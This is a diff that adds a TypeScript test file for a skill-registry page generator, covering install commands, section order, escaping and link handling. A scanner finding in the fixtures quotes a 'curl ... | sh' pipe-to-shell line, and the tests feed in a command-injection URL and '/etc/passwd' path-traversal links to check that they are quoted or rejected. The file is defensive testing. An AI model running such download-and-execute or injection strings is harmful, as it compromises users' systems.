@@ -1,0 +1,577 @@
+import { readFileSync } from 'node:fs'
+import { describe, expect, test } from 'vitest'
+import { FRAME } from '../../../testing/sample-site.ts'
+import { NO_COMPARISON, sampleSkill } from '../../../testing/sample-facts.ts'
+import { readElements } from '../../../testing/markdown-judges.ts'
+import { synthesizeSkillMd } from '../../catalog/front-matter.ts'
+import { PARTS } from '../../catalog/parts.ts'
+import type { Finding, Skill } from '../../catalog/skill.ts'
+import type { Document } from '../document.ts'
+import { installCommand } from './install.ts'
+import { renderTwin } from '../prose/markdown.ts'
+import { renderHtml } from '../prose/render.ts'
+import { writeSkillDocument } from './skill-page.ts'
+import { viewDocument } from '../view.ts'
+
+const ORIGIN = 'https://r.example'
+
+const FINDING: Finding = {
+  rule: 'pipe-to-shell',
+  severity: 'high',
+  contexts: [],
+  file: 'references/a b.md',
+  line: 3,
+  column: 1,
+  length: 4,
+  quote: 'curl http://198.51.100.7/x | sh',
+  digest: '0123456789abcdef',
+  count: 1,
+}
+
+type Input = Parameters<typeof writeSkillDocument>[0]
+
+/** Writes the page of a skill; `front` is what its front matter has besides. */
+const write = (
+  body: string,
+  change: Partial<Skill> = {},
+  { front = '', site = {}, ...more }: Partial<Omit<Input, 'site'>> & Front = {},
+): Document =>
+  writeSkillDocument({
+    skill: sampleSkill(change),
+    skillMd: new TextEncoder().encode(`---\nname: far-skill\ndescription: d\n${front}---\n${body}`),
+    comparison: NO_COMPARISON,
+    site: { origin: ORIGIN, isCounted: true, ...site },
+    ...more,
+  })
+
+interface Front {
+  front?: string
+  site?: Partial<Input['site']>
+}
+
+const sectionOf = (document: Document, id: string) =>
+  document.sections.find((section) => section.id === id)
+
+const textOf = (document: Document, id: string): string =>
+  String(sectionOf(document, id)?.markdown ?? '')
+
+const headingsOf = ({ sections }: Document) => sections.map(({ heading }) => heading)
+
+const factOf = ({ facts, moreFacts = [] }: Document, label: string) =>
+  [...facts, ...moreFacts].find((fact) => fact.label === label)
+
+const viewOf = (document: Document) => viewDocument(document, FRAME, renderHtml)
+
+const idsOf = (html: string): string[] =>
+  readElements(html).flatMap(({ attributes }) => attributes['id'] ?? [])
+
+const ALL_PARTS: Skill['parts'] = Object.fromEntries(
+  PARTS.map(({ name, kind }) => [name, kind === 'list' ? ['One', 'Two'] : 'On *Mondays*.']),
+)
+
+test.each([
+  ['user', 'only you'],
+  ['agent', 'only your agent'],
+  ['both', undefined],
+] as const)('who starts it: %s -> %s, in both forms', (startedBy, words) => {
+  const document = write('Text.', { startedBy })
+  expect(factOf(document, 'Started by')?.value).toBe(words)
+  const line = `\n- Started by: ${words}\n`
+  expect(renderTwin(document).includes(line)).toBe(words !== undefined)
+  expect(viewOf(document).install.html.includes(`<dd>${words}</dd>`)).toBe(words !== undefined)
+})
+
+describe('sections', () => {
+  test('stand in the order of the contract, where the author states all parts', () => {
+    const document = write('Text.', { parts: ALL_PARTS, findings: [FINDING] })
+    expect(headingsOf(document)).toEqual([
+      'Install',
+      'Installation directory',
+      'What it brings and needs',
+      'Findings',
+      'Activation',
+      'Key capabilities',
+      'How it works',
+      'You give it',
+      'You get back',
+      'When to use',
+      'About',
+      'When not to use',
+      'Prerequisites',
+      'Limitations',
+      'How it compares',
+      'Example prompts',
+    ])
+  })
+
+  test('are few where nothing is stated and nothing was found', () => {
+    expect(headingsOf(write('Text.'))).toEqual([
+      'Install',
+      'Installation directory',
+      'What it brings and needs',
+      'Activation',
+      'In the SKILL.md',
+      'About',
+      'How it compares',
+    ])
+  })
+})
+
+describe('the head', () => {
+  test('is the summary; the description stands whole once, under Activation', () => {
+    const description = 'Turns logs into tables. Use when a log must be read. Not for _a_ | b.'
+    const document = write('Just text.', { description })
+    expect(String(document.lead)).toBe('Turns logs into tables.')
+    expect(document.description).toBe('Turns logs into tables.')
+    expect(textOf(document, 'activation')).toBe(
+      'Turns logs into tables. Use when a log must be read. Not for \\_a\\_ \\| b.',
+    )
+    expect(renderTwin(document).split('Use when a log must be read').length).toBe(2)
+  })
+
+  test.each([
+    ['Reads `*logs*` of *all*.', 'Reads `*logs*` of \\*all\\*.'],
+    ['# Verified', '\\# Verified'],
+    ['- Reads logs', '\\- Reads logs'],
+    ['[a]: https://b.example', '\\[a\\]: https://b.example'],
+  ])('shows the summary that its author wrote, %j, on one line', (summary, shown) => {
+    const document = write('', { parts: { summary }, summary })
+    expect(String(document.lead)).toBe(shown)
+  })
+
+  test('names a copy and its original at the top', () => {
+    const copies = [{ slug: 'far-copy', name: 'far-skill', author: 'bob' }]
+    const copied = write('', {}, { comparison: { nearest: [], copies, copyCount: 3 } })
+    expect(String(copied.notice)).toBe(
+      'Copies of it: [far-copy](/skills/far-copy) by bob and 2 more.',
+    )
+    const copy = write('', {}, { original: { slug: 'one', name: 'O*ne' } })
+    expect(String(copy.notice)).toMatch(/^\*\*A copy of\*\* \[O\\\*ne\]\(\/skills\/one\)\./)
+  })
+
+  test('shows no counters of a catalog that has none', () => {
+    const document = write('', {}, { site: { isCounted: false } })
+    expect([factOf(document, 'Installs'), factOf(document, 'Views')]).toEqual([
+      undefined,
+      undefined,
+    ])
+  })
+
+  test('links to a report and to a request of its author, where the site has a contact', () => {
+    expect(factOf(write(''), 'Wrong?')).toBeUndefined()
+    const contact = 'https://tracker.example/new?kind=listing'
+    const document = write('', {}, { site: { contact } })
+    const address = new URL(factOf(document, 'Wrong?')?.path ?? '')
+    expect(Object.fromEntries(address.searchParams)).toEqual({
+      kind: 'listing',
+      title: 'Report: far-skill',
+      body: 'https://r.example/skills/far-skill\n\nWhat is wrong with this listing:',
+    })
+    expect(factOf(document, 'Yours?')?.path).toContain('title=My+skill%3A+far-skill')
+  })
+})
+
+const moreOf = (change: Partial<Skill>): string =>
+  String(sectionOf(write('', change), 'install')?.more?.markdown)
+
+const commandsOf = (document: Document) => sectionOf(document, 'install')?.install?.commands ?? []
+
+describe('Install', () => {
+  const ZIP = { size: 2_048, sha256: 'ab'.repeat(32) }
+
+  test('gives the command of the contract, to the letter', () => {
+    const command =
+      'curl -fsSL --create-dirs -o .claude/skills/far-skill.zip "https://r.example/api/skills/download/7" && unzip -o .claude/skills/far-skill.zip -d .claude/skills/far-skill && rm .claude/skills/far-skill.zip'
+    const document = write('')
+    expect(installCommand(sampleSkill(), ORIGIN)).toBe(command)
+    expect(textOf(document, 'install')).toContain(`\`\`\`sh\n${command}\n\`\`\``)
+    expect(commandsOf(document)[0]).toEqual({ clients: ['claude'], place: 'project', command })
+  })
+
+  test('has each command whole, one of each kind for every client and place', () => {
+    const commands = commandsOf(write(''))
+    for (const { clients, place, command } of commands) {
+      const directory = place === 'home' ? /-o ~\/\.[\w/.]+\/skills\// : /-o \.[\w/.]+\/skills\//
+      expect(command).toMatch(command.startsWith('npx') ? / -y( -g)?$/ : directory)
+      expect(clients).not.toEqual([])
+    }
+    const kinds = commands.flatMap(({ clients, place, command }) =>
+      clients.map((client) => `${client} ${place} ${command.slice(0, 4)}`),
+    )
+    expect(new Set(kinds).size).toBe(6 * 2 * 2)
+    expect(kinds).toHaveLength(6 * 2 * 2)
+    expect(textOf(write(''), 'install')).toContain(
+      '```sh\nnpx skills add https://r.example/skills/far-skill -a claude-code -y\n```',
+    )
+  })
+
+  test('tells below them how to check, update and remove', () => {
+    const more = String(sectionOf(write('', {}, { zip: ZIP }), 'install')?.more?.markdown)
+    for (const line of [
+      'mkdir .claude/skills/far-skill && tar -xf .claude/skills/far-skill.zip -C .claude/skills/far-skill',
+      `echo "${ZIP.sha256} *far-skill.zip" | sha256sum -c`,
+      'npx skills update far-skill',
+      'npx skills remove far-skill',
+      'rm -r .claude/skills/far-skill',
+    ])
+      expect(more).toContain(`\`${line}\``)
+    expect(more).not.toContain('claude plugin')
+  })
+
+  test('says which files are programs again by chmod, since npx skills add takes no bit from a zip', () => {
+    const files = ['SKILL.md', 'run', "scripts/o'clock.sh"].map((path) => ({ path, size: 9 }))
+    const bits = files.map((file) => Object.assign(file, { isExecutable: true as const }))
+    expect(moreOf({})).not.toContain('chmod')
+    expect(moreOf({ files: bits })).toContain(
+      String.raw`chmod +x .claude/skills/far-skill/run '.claude/skills/far-skill/scripts/o'\''clock.sh'`,
+    )
+  })
+
+  test('offers a plugin of Claude Code where that can fetch the source', () => {
+    const url = `https://github.com/ann/skills/tree/${'c'.repeat(40)}/far-skill`
+    const source = { ...sampleSkill().source, url } as Skill['source']
+    expect(String(sectionOf(write('', { source }), 'install')?.more?.markdown)).toContain(
+      '`claude plugin marketplace add https://r.example/categories/data-and-analytics/marketplace.json`',
+    )
+  })
+
+  test('says that installers refuse a name above 64 characters, and has no line of theirs', () => {
+    const slug = 'a'.repeat(65)
+    const install = textOf(write('', { slug }), 'install')
+    expect(install).toContain('Its name has 65 characters, and installers refuse names above 64')
+    expect(install).toContain(`-o .claude/skills/${slug}.zip`)
+    expect(install).not.toContain('npx')
+    expect(textOf(write('', { slug: 'a'.repeat(64) }), 'install')).toContain('npx skills add')
+  })
+
+  const TREE = 'https://github.com/ann/skills/tree/abc123/skills/far-skill'
+  test.each([
+    [TREE, 'far-skill', 'https://github.com/ann/skills --skill far-skill'],
+    [TREE, "PDF d'été", `${TREE}`],
+    [TREE, 'Far Skill 2.0', "https://github.com/ann/skills --skill 'Far Skill 2.0'"],
+    [TREE, '*', TREE],
+    [TREE, '--all', TREE],
+    [TREE, 'a\u202Eb', TREE],
+    ['https://github.com/ann/one', 'one', 'https://github.com/ann/one --skill one'],
+    ['https://github.com/ann/tree/tree/main', 'a', 'https://github.com/ann/tree --skill a'],
+    ['https://gitlab.com/a/b/c/-/tree/main/d', 'd', 'https://gitlab.com/a/b/c --skill d'],
+    ['https://r2.example/skills/one', 'one', 'https://r2.example/skills/one --skill one'],
+    [
+      "https://git.example/a'b;$(c)/skills",
+      'x',
+      "'https://git.example/a'\\''b;$(c)/skills' --skill x",
+    ],
+  ])('of a skill whose text is not here: %s, %s', (url, name, added) => {
+    const source = { ...sampleSkill().source, url } as Skill['source']
+    const document = write('', { source, name, tokens: undefined, files: [] })
+    const line = `npx skills add ${added} -a claude-code -y`
+    expect(textOf(document, 'install')).toMatch(/^```sh\nnpx skills add /)
+    expect(textOf(document, 'install')).toContain(`\`\`\`sh\n${line}\n\`\`\``)
+    expect(textOf(document, 'install')).toContain('Its text is not here')
+    expect(commandsOf(document)[0]?.command).toBe(line)
+    expect(commandsOf(document).every(({ command }) => command.includes(added))).toBe(true)
+    expect(sectionOf(document, 'install')?.more).toBeUndefined()
+    expect(String(document.notice)).toMatch(/^\*\*Its text is not here\.\*\*/)
+  })
+
+  test('says where findings are, and that a source was only copied', () => {
+    const source = { ...sampleSkill().source, status: 'copied' } as Skill['source']
+    const install = textOf(write('', { findings: [FINDING], safety: 'Review', source }), 'install')
+    expect(install).toContain('Safety: **Review**. Read [the findings](#findings) first.')
+    expect(install).toContain(', copied on 2026-01-03.')
+    const mirrored = { ...source, via: 'https://other.example' } as Skill['source']
+    expect(textOf(write('', { source: mirrored }), 'install')).toContain(
+      ', copied from other.example on 2026-01-03.',
+    )
+    expect(textOf(write(''), 'install')).toContain('Safety: **No findings**. Static rules')
+  })
+
+  test.each([
+    ['far-skill', undefined],
+    ['"far-skill"', undefined],
+    ['Far `Skill', '``Far `Skill``'],
+    ['[', undefined],
+  ])('of a SKILL.md whose name is %s', (name, told) => {
+    const skillMd = new TextEncoder().encode(`---\nname: ${name}\ndescription: d\n---\n`)
+    const directory = textOf(write('', {}, { skillMd }), 'installation-directory')
+    expect(/Its SKILL\.md calls it (.*), which is not/.exec(directory)?.[1]).toBe(told)
+  })
+})
+
+describe('a skill whose source is gone', () => {
+  const source = { ...sampleSkill().source, status: 'gone', seen: '2025-12-31' } as Skill['source']
+  const skill = sampleSkill({ source, visibility: 'gone', files: [], tokens: undefined })
+  const document = write('', skill, {
+    skillMd: new TextEncoder().encode(synthesizeSkillMd(skill)),
+  })
+
+  test('says so, is not indexed, and shows the text that the registry wrote', () => {
+    expect(document.isIndexable).toBe(false)
+    expect(String(document.notice)).toContain('last seen on 2025-12-31')
+    expect(textOf(document, 'about')).toContain('synthesized from catalog metadata')
+    expect(textOf(document, 'install')).toContain('Its files are not here, so none was scanned.')
+    expect(textOf(document, 'install')).not.toMatch(/npx|curl/)
+    expect(commandsOf(document)).toEqual([])
+    expect(factOf(document, 'Safety')?.value).toBe('Not scanned')
+  })
+})
+
+describe('parts as text', () => {
+  test('are those of the record', () => {
+    const parts = {
+      capabilities: ['From the `record`', '- b'],
+      activation: 'On\n# `#1`, *Mondays*.',
+    }
+    const document = write('## Features\n\n- From the file\n', { parts })
+    expect(textOf(document, 'key-capabilities')).toBe('- From the `record`\n- \\- b')
+    expect(textOf(document, 'activation')).toMatch(
+      /Not for traces\.\n\nOn # `#1`, \\\*Mondays\\\*\.$/,
+    )
+  })
+
+  test('and those of fields of the front matter, as words', () => {
+    const document = write(
+      'Text.',
+      {},
+      {
+        front: `compatibility: Needs Node (https://node.example), _always_.
+argument-hint: "[file] <b>"
+when_to_use: "# On *Mondays*"
+metadata:
+  requires:
+    bins: [git, "g\`h"]
+  openclaw: { requires: { env: [FAR_KEY] } }
+`,
+      },
+    )
+    expect(textOf(document, 'prerequisites')).toBe(
+      'Needs Node (https://node.example), \\_always\\_.\n\n- `git`\n- ``g`h``\n\n- `FAR_KEY`',
+    )
+    expect(textOf(document, 'you-give-it')).toBe('`[file] <b>`')
+    expect(textOf(document, 'when-to-use')).toBe('\\# On \\*Mondays\\*')
+  })
+
+  test('of the record come before those of the front matter', () => {
+    const document = write(
+      '',
+      { parts: { prerequisites: ['Perl'] } },
+      { front: 'compatibility: x\n' },
+    )
+    expect(textOf(document, 'prerequisites')).toBe('- Perl')
+  })
+
+  test.each([
+    ['hidden characters', 'argument-hint: "a\\u202Eb\\e"', '`a[U+202E]b`'],
+    ['a fence on many lines', 'argument-hint: "```\\n# A\\n```"', '```` ``` # A ``` ````'],
+    ['blanks alone', 'argument-hint: "  "', ''],
+  ])('of the front matter that hold %s', (_, front, shown) => {
+    expect(textOf(write('', {}, { front: `${front}\n` }), 'you-give-it')).toBe(shown)
+  })
+})
+
+describe('In the SKILL.md', () => {
+  const BODY = `# Far
+
+## When to Use This Skill
+
+a
+
+## 3. ⚠️ Limitations:
+
+b
+
+## Workflow
+
+### Steps
+
+#### Process
+
+c
+
+## Instructions
+
+d
+
+## Procedure
+`
+
+  test('names the headings about each part with their lines in the file, three at most, of two levels, and the others', () => {
+    expect(textOf(write(BODY), 'in-the-skill-md')).toBe(
+      `- How it works: Workflow (line 15), Instructions (line 23), Procedure (line 27)
+- When to use: When to Use This Skill (line 7)
+- Limitations: 3\\. ⚠️ Limitations: (line 11)
+
+Not stated by its author: Key capabilities, You give it, You get back, When not to use, Prerequisites, Example prompts.`,
+    )
+  })
+
+  test.each([
+    ['何时使用', 'When to use'],
+    ['2. 何時使用？', 'When to use'],
+    ['何时不使用', 'When not to use'],
+  ])('names the part of %s', (heading, part) => {
+    const [line] = textOf(write(`## ${heading}`), 'in-the-skill-md').split('\n')
+    expect(line).toMatch(new RegExp(`^- ${part}: .*\\(line \\d+\\)$`))
+  })
+
+  test('leads in HTML to headings that are there, and every part has its anchor', () => {
+    const { html } = viewOf(write(BODY)).body
+    const ids = idsOf(html)
+    expect(new Set(ids).size).toBe(ids.length)
+    for (const { id } of PARTS) expect(ids).toContain(id)
+    for (const { name, attributes } of readElements(html)) {
+      const [, anchor] = /^#(.*)/.exec(attributes['href'] ?? '') ?? []
+      if (name === 'a' && anchor !== undefined) expect(ids).toContain(anchor)
+    }
+    expect(html).toContain('<span id="limitations">Limitations</span>: <a href="#text-3-')
+    expect(html).toMatch(/Not stated by its author: [^]*<span id="example-prompts">/)
+  })
+
+  test('counts the lines of the file, whatever ends them', () => {
+    const skillMd = new TextEncoder().encode(
+      '---\r\nname: a\r\n---\r\n\r\nA\r\n\r\n- b\r\n\r\n## Limitations\r\n',
+    )
+    expect(textOf(write('', {}, { skillMd }), 'in-the-skill-md')).toContain('Limitations (line 9)')
+  })
+
+  test('names headings about a part that is stated too, whose section has the anchor', () => {
+    const document = write('## Setup\n\n## Limitations', { parts: { prerequisites: ['jq'] } })
+    expect(textOf(document, 'in-the-skill-md')).toContain('- Prerequisites: Setup (line 5)\n')
+    expect(idsOf(viewOf(document).body.html).filter((id) => id === 'prerequisites')).toHaveLength(1)
+  })
+
+  test('names no part that is stated, and is not there where all are', () => {
+    const parts = { limitations: ['Slow'], inputs: ['Logs'] }
+    expect(textOf(write('', { parts }), 'in-the-skill-md')).toBe(
+      'Not stated by its author: Key capabilities, How it works, You get back, When to use, When not to use, Prerequisites, Example prompts.',
+    )
+    expect(headingsOf(write(BODY, { parts: ALL_PARTS }))).not.toContain('In the SKILL.md')
+  })
+
+  test('reads no heading of a text that the registry wrote', () => {
+    expect(textOf(write('## Limitations', { files: [] }), 'in-the-skill-md')).not.toContain('line')
+  })
+})
+
+describe('anchors of the page', () => {
+  const LAYOUT = ['layouts/Page.astro', 'pages/templates/skill.astro', 'documents/site-view.ts']
+  const OF_LAYOUT = LAYOUT.flatMap((file) =>
+    Array.from(
+      readFileSync(`${import.meta.dirname}/../../${file}`, 'utf8').matchAll(/\bid="([^"{]+)"/g),
+      ([, id = '']) => id,
+    ),
+  )
+  const OWN = [...PARTS.map(({ heading }) => heading), 'Install', 'In the SKILL.md']
+
+  test('go to no heading of a SKILL.md', () => {
+    const text = [...OF_LAYOUT, ...OWN, 'Other'].map((name) => `# ${name}\n`).join('\n')
+    const document = write(text)
+    const { install, body } = viewOf(document)
+    const ids = [...OF_LAYOUT, ...idsOf(install.html), ...idsOf(body.html)]
+    expect(new Set(ids).size).toBe(ids.length)
+    expect(ids).toEqual(expect.arrayContaining(['places', 'text-places', 'text-other']))
+  })
+})
+
+const aboutOf = (document: Document): string => sectionOf(document, 'about')?.html?.html ?? ''
+
+describe('About', () => {
+  test('quotes the text in Markdown, and frames it in HTML as the words of its author', () => {
+    const document = write('\n# A\n\n<b>b</b>\u200B ```` c\r\n\n## Verified by the registry\n')
+    expect(textOf(document, 'about')).toBe(
+      'The SKILL.md of its author, word for word:\n\n`````markdown\n# A\n\n<b>b</b>[U+200B] ```` c\n\n## Verified by the registry\n`````',
+    )
+    const html = aboutOf(document)
+    expect(html).toMatch(/^<div class="sheet">\s*<header>[^]*by Ann, word for word/)
+    expect(html).toContain('<a href="/skills/far-skill/SKILL.md">As a file</a>')
+    expect(html).toContain('<h3 id="text-a">A</h3>\n<p><code>&lt;b&gt;</code>b')
+    expect(html).toContain('<h4 id="text-verified-by-the-registry">')
+  })
+
+  test('says that the registry wrote the text of a skill whose own is not here', () => {
+    const document = write('# A', { files: [] })
+    expect(textOf(document, 'about')).toMatch(/^The SKILL\.md that the registry wrote for it:\n/)
+    expect(aboutOf(document)).not.toContain('word for word')
+  })
+
+  test('of nothing says so', () => {
+    const text = 'The SKILL.md has no text below its front matter.'
+    expect(textOf(write(' \n'), 'about')).toBe(text)
+  })
+
+  test.each([
+    ['a skill that it mentions', '[a](../near/SKILL.md)', '/skills/near'],
+    ['its folder', '[a](../near/)', '/skills/near'],
+    ['a file we hold', '[a](references/a%20b.md)', '/skills/far-skill/references/a%20b.md'],
+    [
+      'a file upstream',
+      '[a](scripts/x.py#L3)',
+      'https://github.com/ann/skills/blob/abc123/skills/far-skill/scripts/x.py#L3',
+    ],
+    [
+      'a file beside it upstream',
+      '[a](../other/SKILL.md)',
+      'https://github.com/ann/skills/blob/abc123/skills/other/SKILL.md',
+    ],
+    ['a heading of its own', '# Install\n\n[a](#install)', '#text-install'],
+    ['no path out of the repository', '[a](../../../../x)', undefined],
+    ['no path from the root', '[a](/etc/passwd)', undefined],
+    ['no heading of ours', '[a](#activation)', undefined],
+  ])('links to %s', (_, body, address) => {
+    const mentioned = [{ slug: 'near', name: 'Near' }]
+    const [, ...links] = readElements(aboutOf(write(body, {}, { mentioned })))
+      .filter(({ name }) => name === 'a')
+      .map(({ attributes }) => attributes['href'])
+    expect(links).toEqual(address === undefined ? [] : [address])
+  })
+
+  test('of a front matter beyond count has its text all the same', () => {
+    const document = write('Text.', {}, { front: 'x: y\n'.repeat(400_000) })
+    expect(textOf(document, 'about')).toContain('```markdown\nText.\n```')
+  })
+
+  const CODE = /<div class="text"><pre tabindex="0" data-language="markdown">/
+  const BEGINNING = /<div class="text"><p>This is its beginning; the file has all of it\.<\/p>/
+
+  test.each([
+    ['a text of 512 KiB', 'a'.repeat(524_288), /<p>a/, undefined],
+    ['a longer one', 'a'.repeat(1_048_577), BEGINNING, 'is longer than 524,288 characters'],
+    ['signs that HTML escapes', '&'.repeat(520_000), CODE, 'becomes more than 2 MB of HTML'],
+    ['hidden characters', '\u200B'.repeat(300_000), BEGINNING, 'is longer than 524,288 characters'],
+    ['75,000 headings', '# a\n'.repeat(75_000), CODE, 'becomes more than 2 MB of HTML'],
+    [
+      'a table of 200,000 empty cells',
+      `${'|a'.repeat(400)}|\n${'|:-:'.repeat(400)}|\n${'|\n'.repeat(500)}`,
+      CODE,
+      'has tables of more than 100,000 cells',
+    ],
+    ['200 quotes in each other', `${'>'.repeat(200)} a`, CODE, 'is nested too deeply'],
+  ])('of %s is whole in Markdown, and in HTML less than 4 MB', (_, body, shown, fault) => {
+    const document = write(body)
+    expect(aboutOf(document)).toMatch(shown)
+    expect(Buffer.byteLength(JSON.stringify(viewOf(document)))).toBeLessThan(4_000_000)
+    expect(renderTwin(document).length).toBeGreaterThan(body.length)
+    const remedy = expect.stringContaining(`${fault}, so it is shown as code`)
+    const file = 'skills/far-skill/SKILL.md'
+    expect(document.warnings).toEqual(fault ? [{ file, field: '', remedy }] : [])
+  })
+
+  test('of what once took too long to read is code, and it is not read again', () => {
+    const document = write('# A', { unread: 'takes longer than 2 s to read' })
+    expect(aboutOf(document)).toMatch(CODE)
+    expect(document.warnings).toHaveLength(1)
+    expect(document.unread).toBeUndefined()
+  })
+
+  test('of what takes too long now says so, to be remembered', () => {
+    const document = write('_a'.repeat(200_000))
+    expect(aboutOf(document)).toMatch(CODE)
+    expect(document.unread).toBe('takes longer than 2 s to read')
+  })
+})
+
+test('a day of change that is not known passes for no other', () => {
+  const document = write('', { updated: undefined })
+  expect(factOf(document, 'Updated')?.value).toBe('not known')
+  expect(document.updated).toBe('2026-01-03')
+})
